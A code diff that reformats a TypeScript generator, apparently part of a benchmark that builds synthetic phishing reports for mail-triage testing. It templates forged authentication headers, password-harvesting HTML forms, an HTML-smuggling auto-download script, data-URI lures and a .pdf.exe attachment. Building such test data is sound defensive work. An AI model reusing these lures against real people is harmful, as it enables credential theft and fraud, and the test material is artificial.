@@ -65,13 +65,17 @@ function domainOf(address: string): string {
 
 function authHeader(mail: Mail): string {
   const domain = domainOf(mail.fromAddress);
-  return `Authentication-Results: ${MX}; spf=${mail.auth.spf} smtp.mailfrom=${domain}; dkim=${mail.auth.dkim} header.d=${domain}; dmarc=${mail.auth.dmarc} header.from=${domain}`;
+  return (
+    `Authentication-Results: ${MX}; spf=${mail.auth.spf} smtp.mailfrom=${domain}; ` +
+    `dkim=${mail.auth.dkim} header.d=${domain}; dmarc=${mail.auth.dmarc} header.from=${domain}`
+  );
 }
 
 /** The message as our MX delivered it to the person who reports it. */
 function render(mail: Mail, id: string, to: string, date: string): string {
   const headers = [
-    `Received: from out.${domainOf(mail.fromAddress)} (out.${domainOf(mail.fromAddress)} [203.0.113.${(id.length * 7) % 250}]) by ${MX} with ESMTPS id ${id.slice(0, 8)}; ${date}`,
+    `Received: from out.${domainOf(mail.fromAddress)} (out.${domainOf(mail.fromAddress)} [203.0.113.${(id.length * 7) % 250}]) ` +
+      `by ${MX} with ESMTPS id ${id.slice(0, 8)}; ${date}`,
     authHeader(mail),
     ...(mail.forgedAuth ? [`Authentication-Results: mail.${domainOf(mail.fromAddress)}; spf=pass; dkim=pass; dmarc=pass header.from=paypal.com`] : []),
     `From: ${encodedWord(mail.fromName)} <${mail.fromAddress}>`,
@@ -99,7 +103,9 @@ function render(mail: Mail, id: string, to: string, date: string): string {
   return [...headers, `Content-Type: multipart/mixed; boundary="${mixed}"`, "", ...parts, ""].join("\r\n");
 }
 
-const REPORTER_AUTH = `Authentication-Results: ${MX}; spf=pass smtp.mailfrom=${ORG_DOMAIN}; dkim=pass header.d=${ORG_DOMAIN}; dmarc=pass header.from=${ORG_DOMAIN}`;
+const REPORTER_AUTH =
+  `Authentication-Results: ${MX}; spf=pass smtp.mailfrom=${ORG_DOMAIN}; ` +
+  `dkim=pass header.d=${ORG_DOMAIN}; dmarc=pass header.from=${ORG_DOMAIN}`;
 
 function reportOf(style: ReportStyle, mail: Mail, innerRaw: string, reporter: string, id: string, date: string, language: "en" | "ko"): string {
   if (style === "original") return innerRaw.replace(/^Received: /, `Received: from relay by ${MX}; ${date}\r\nReceived: `);
@@ -125,7 +131,9 @@ function reportOf(style: ReportStyle, mail: Mail, innerRaw: string, reporter: st
   }[style];
   const text = `${ask}\n\n${signature.replaceAll("\r\n", "\n")}\n\n${block.join("\n")}\n\n${mail.text}`;
   const html = mail.html
-    ? `<div>${escapeHtml(ask)}</div><div>-- <br>${reporter} | <a href="https://intranet.${ORG_DOMAIN}/people/${reporter}">intranet</a></div><br><div class="quote">${block.map(escapeHtml).join("<br>")}<br><br>${mail.html}</div>`
+    ? `<div>${escapeHtml(ask)}</div><div>-- <br>${reporter} | ` +
+      `<a href="https://intranet.${ORG_DOMAIN}/people/${reporter}">intranet</a></div><br>` +
+      `<div class="quote">${block.map(escapeHtml).join("<br>")}<br><br>${mail.html}</div>`
     : undefined;
   const alternative = `alt-${id.replace(/[^a-z0-9]/gi, "")}`;
   const body = [`--${alternative}`, "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "", b64(text),
@@ -141,7 +149,11 @@ function reportOf(style: ReportStyle, mail: Mail, innerRaw: string, reporter: st
 }
 
 function page(paragraphs: string[], links: { href: string; text: string }[], extraHead = "", footer = ""): string {
-  return `<html><head>${extraHead}</head><body>${paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`).join("")}${links.map((link) => `<p><a href="${escapeHtml(link.href)}">${escapeHtml(link.text)}</a></p>`).join("")}${footer}</body></html>`;
+  return (
+    `<html><head>${extraHead}</head><body>${paragraphs.map((p) => `<p>${escapeHtml(p)}</p>`).join("")}` +
+    `${links.map((link) => `<p><a href="${escapeHtml(link.href)}">${escapeHtml(link.text)}</a></p>`).join("")}` +
+    `${footer}</body></html>`
+  );
 }
 
 function textOf(paragraphs: string[], links: { href: string; text: string }[]): string {
@@ -164,8 +176,12 @@ function newsletter(pick: <T>(list: T[]) => T, n: number, ko: boolean): Mail {
     { href: `https://www.instagram.com/${domain.split(".")[0]}/`, text: "Instagram" },
     { href: `https://www.${domain}/unsubscribe?u=${n}`, text: ko ? "수신 거부" : "Unsubscribe" },
   ];
-  const head = `<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet"><link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Open+Sans">`;
-  const footer = `<img src="https://i.imgur.com/${(n * 31).toString(36)}.png" width="600"><img src="https://www.${domain}/open.gif?u=${n}" width="1" height="1">`;
+  const head =
+    `<link href="https://fonts.googleapis.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">` +
+    `<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Open+Sans">`;
+  const footer =
+    `<img src="https://i.imgur.com/${(n * 31).toString(36)}.png" width="600">` +
+    `<img src="https://www.${domain}/open.gif?u=${n}" width="1" height="1">`;
   return { fromName: name, fromAddress: `news@${domain}`, subject: ko ? `[${name}] 이번 주 소식` : `${name}: this week's picks`, text: textOf(paragraphs, links), html: page(paragraphs, links, head, footer), auth: PASS, language: ko ? "ko" : "en" };
 }
 
@@ -298,7 +314,9 @@ async function phish(kind: string, ctx: PhishContext): Promise<{ mail: Mail; url
     }
     case "free-hosting": {
       const site = pick(["web.app", "firebaseapp.com", "weebly.com", "github.io", "netlify.app", "pages.dev", "glitch.me", "blogspot.com"]);
-      const url = `https://${pick(WORDS)}-${brand.domain.split(".")[0]}-${n}.${site}/${pick(["login", "signin", "verify", "account/update"])}.html`;
+      const url =
+        `https://${pick(WORDS)}-${brand.domain.split(".")[0]}-${n}.${site}/` +
+        `${pick(["login", "signin", "verify", "account/update"])}.html`;
       return base(url);
     }
     case "shortener": {
@@ -306,18 +324,24 @@ async function phish(kind: string, ctx: PhishContext): Promise<{ mail: Mail; url
       return base(url);
     }
     case "ip-link": {
-      const url = `http://${Math.floor(next() * 200 + 20)}.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}/${pick(WORDS)}/index.php`;
+      const url =
+        `http://${Math.floor(next() * 200 + 20)}.${Math.floor(next() * 250)}.` +
+        `${Math.floor(next() * 250)}.${Math.floor(next() * 250)}/${pick(WORDS)}/index.php`;
       return base(url);
     }
     case "html-form": {
       const post = `https://${host}/next.php`;
-      const form = `<html><body><h3>${escapeHtml(brand.name)}</h3><form method="post" action="${post}"><input name="email"><input type="password" name="pass"><button>Sign in</button></form></body></html>`;
+      const form =
+        `<html><body><h3>${escapeHtml(brand.name)}</h3><form method="post" action="${post}">` +
+        `<input name="email"><input type="password" name="pass"><button>Sign in</button></form></body></html>`;
       const p = ko ? ["첨부된 문서를 확인해 주세요."] : ["Please see the attached remittance advice.", "Open the attachment to view it."];
       return { mail: { fromName: brand.name, fromAddress: `accounts@${senderDomain}`, subject: ko ? "송금 확인서" : "Remittance advice", text: textOf(p, []), auth: phishAuth(ctx), language, attachments: [{ name: `Remittance_${n}.html`, type: "text/html", data: Buffer.from(form) }] }, urls: [post] };
     }
     case "html-smuggling": {
       const payload = Buffer.from(`<html><form action="https://${host}/p.php"><input type="password"></form></html>`).toString("base64");
-      const page2 = `<html><body><script>var d=atob("${payload}");var b=new Blob([d],{type:"text/html"});var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Invoice.html";a.click();</script></body></html>`;
+      const page2 =
+        `<html><body><script>var d=atob("${payload}");var b=new Blob([d],{type:"text/html"});` +
+        `var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="Invoice.html";a.click();</script></body></html>`;
       const p = ["Your invoice is attached."];
       return { mail: { fromName: "Accounts Payable", fromAddress: `ap@${senderDomain}`, subject: `Invoice INV-${n}`, text: textOf(p, []), auth: phishAuth(ctx), language, attachments: [{ name: `INV-${n}.htm`, type: "text/html", data: Buffer.from(page2) }] }, urls: [] };
     }
@@ -347,7 +371,9 @@ async function phish(kind: string, ctx: PhishContext): Promise<{ mail: Mail; url
     }
     case "compromised": {
       // A real small business's account: it passes DMARC, and links to a hacked site's sign-in page.
-      const url = `https://${pick(["greenvalleyfarm", "lakeside-dental", "kimsbakery", "bluewave-travel"])}.${pick(["com", "net", "co.kr"])}/wp-includes/${pick(["office365", "onedrive", "sharepoint"])}/login.php`;
+      const url =
+        `https://${pick(["greenvalleyfarm", "lakeside-dental", "kimsbakery", "bluewave-travel"])}.${pick(["com", "net", "co.kr"])}` +
+        `/wp-includes/${pick(["office365", "onedrive", "sharepoint"])}/login.php`;
       const p = ["I have shared a file with you on OneDrive.", "Click below to view the document."];
       const links = [{ href: url, text: "View document" }];
       return { mail: { fromName: "OneDrive", fromAddress: `office@${pick(["smithaccounting", "parklaw", "hanaconsulting"])}.com`, subject: "Shared document: Contract.pdf", text: textOf(p, links), html: page(p, links), auth: PASS, language: "en" }, urls: [url] };
@@ -358,7 +384,8 @@ async function phish(kind: string, ctx: PhishContext): Promise<{ mail: Mail; url
       return { mail: { fromName: "Purchasing", fromAddress: `po@${senderDomain}`, subject: ko ? "발주서" : `Purchase order PO-${n}`, text: textOf(p, []), auth: phishAuth(ctx), language, attachments: [{ name: `PO-${n}.pdf.exe`, type: "application/octet-stream", data: mz }] }, urls: [] };
     }
     case "data-uri": {
-      const data = `data:text/html;base64,${Buffer.from('<form action="https://x.test"><input type="password"></form>').toString("base64")}`;
+      const form = '<form action="https://x.test"><input type="password"></form>';
+      const data = `data:text/html;base64,${Buffer.from(form).toString("base64")}`;
       const p = ["Your voicemail message is ready.", "Open it below."];
       return { mail: { fromName: "Voicemail", fromAddress: `voicemail@${senderDomain}`, subject: "New voicemail (0:42)", text: textOf(p, []), html: `${page(p, [])}<p><a href="${data}">Play message</a></p>`, auth: phishAuth(ctx), language: "en" }, urls: [] };
     }
@@ -398,7 +425,10 @@ export async function makeVerdictDay(options: { seed?: number; phish?: number; h
   const weighted = (list: [string, number][]) => {
     const total = list.reduce((sum, [, weight]) => sum + weight, 0);
     let roll = next() * total;
-    for (const [name, weight] of list) if ((roll -= weight) < 0) return name;
+    for (const [name, weight] of list) {
+      roll -= weight;
+      if (roll < 0) return name;
+    }
     return list[0]![0];
   };
   const styles: [string, number][] = [["attachment", 70], ["inline-gmail", 8], ["inline-outlook", 6], ["inline-apple", 3], ["inline-naver", 5], ["original", 8]];
@@ -458,5 +488,10 @@ export async function makeVerdictDay(options: { seed?: number; phish?: number; h
 /** A URLhaus CSV (its published columns) listing the given URLs. */
 export function urlhausCsv(urls: string[]): string {
   const header = "# id,dateadded,url,url_status,last_online,threat,tags,urlhaus_link,reporter";
-  return `${[header, ...urls.map((url, index) => `"${9000 + index}","2026-12-06 10:00:00","${url}","online","2026-12-07 00:00:00","malware_download","phishing","https://urlhaus.abuse.ch/url/${9000 + index}/","bench"`)].join("\n")}\n`;
+  const rows = urls.map(
+    (url, index) =>
+      `"${9000 + index}","2026-12-06 10:00:00","${url}","online","2026-12-07 00:00:00",` +
+      `"malware_download","phishing","https://urlhaus.abuse.ch/url/${9000 + index}/","bench"`,
+  );
+  return `${[header, ...rows].join("\n")}\n`;
 }
